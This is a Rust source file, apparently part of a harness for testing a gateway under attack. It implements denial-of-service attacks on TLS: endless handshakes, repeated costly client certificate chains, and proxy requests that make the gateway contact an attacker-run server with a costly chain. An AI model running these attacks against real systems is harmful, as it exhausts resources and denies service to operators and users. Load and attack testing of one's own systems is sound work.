//! What a handshake can be made to cost.

use std::sync::Arc;

use rustls::{
    ClientConfig, ServerConfig, SignatureScheme,
    client::{ResolvesClientCert, Resumption},
    crypto::aws_lc_rs,
    sign::CertifiedKey,
};
use rustls_pki_types::ServerName;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};
use tokio_rustls::{TlsAcceptor, TlsConnector};

use super::{Plan, connect, side_by_side};
use crate::{attacks::chains, client, files};

/// Shows a chain whoever asks.
#[derive(Debug)]
struct Always(Arc<CertifiedKey>);

impl ResolvesClientCert for Always {
    fn resolve(&self, _: &[&[u8]], _: &[SignatureScheme]) -> Option<Arc<CertifiedKey>> {
        Some(Arc::clone(&self.0))
    }

    fn has_certs(&self) -> bool {
        true
    }
}

/// Shows the costly chain to the TLS listener, eight at a time.
pub(super) async fn client_chains(plan: &'static Plan) -> anyhow::Result<()> {
    let (chain, key) = chains::read(&plan.directory, "client")?;
    let key = aws_lc_rs::sign::any_supported_type(&key)?;
    let key = Always(Arc::new(CertifiedKey::new(chain, key)));
    let roots = client::roots(&plan.directory.join("roots.pem"))?;
    let mut config = ClientConfig::builder()
        .with_root_certificates(roots)
        .with_client_cert_resolver(Arc::new(key));
    config.resumption = Resumption::disabled();
    handshake_for_ever(plan, config, 8).await
}

/// Handshakes without a certificate.
pub(super) async fn handshakes(plan: &'static Plan) -> anyhow::Result<()> {
    let roots = client::roots(&plan.directory.join("roots.pem"))?;
    let mut config = ClientConfig::builder()
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.resumption = Resumption::disabled();
    handshake_for_ever(plan, config, 32).await
}

async fn handshake_for_ever(
    plan: &'static Plan,
    config: ClientConfig,
    at_a_time: usize,
) -> anyhow::Result<()> {
    let connector = TlsConnector::from(Arc::new(config));
    let name = ServerName::try_from(files::HOST)?;
    side_by_side(plan, at_a_time, |_| {
        let (connector, name) = (connector.clone(), name.clone());
        async move {
            while !plan.is_over() {
                let Ok(stream) = connect(plan.tls).await else {
                    tokio::task::yield_now().await;
                    continue;
                };
                if let Ok(mut stream) = connector.connect(name.clone(), stream).await {
                    // The alert comes once the certificate was judged.
                    let _ = stream.read(&mut [0; 16]).await;
                }
            }
        }
    })
    .await;
    Ok(())
}

/// Has the gateway greet a server of the attacker's own, eight requests at a time.
pub(super) async fn server_chains(plan: &'static Plan) -> anyhow::Result<()> {
    let (chain, key) = chains::read(&plan.directory, "server")?;
    let config = ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(chain, key)?;
    let acceptor = TlsAcceptor::from(Arc::new(config));
    let listener = TcpListener::bind(plan.evil).await?;
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                // Whoever refuses the chain goes away.
                let _ = acceptor.accept(stream).await;
            });
        }
    });
    let request = format!(
        "GET https://{name}/ HTTP/1.1\r\nHost: {name}\r\nProxy-Authorization: Bearer {}\r\n\r\n",
        plan.token,
        name = chains::SERVER
    );
    let request: Arc<str> = request.into();
    side_by_side(plan, 8, |_| {
        let request = Arc::clone(&request);
        async move {
            while !plan.is_over() {
                let Ok(mut stream) = connect(plan.proxy).await else {
                    tokio::task::yield_now().await;
                    continue;
                };
                // Each request is answered before the next; a lost connection is made anew.
                while stream.write_all(request.as_bytes()).await.is_ok()
                    && matches!(stream.read(&mut [0; 4096]).await, Ok(1..))
                {}
            }
        }
    })
    .await;
    Ok(())
}
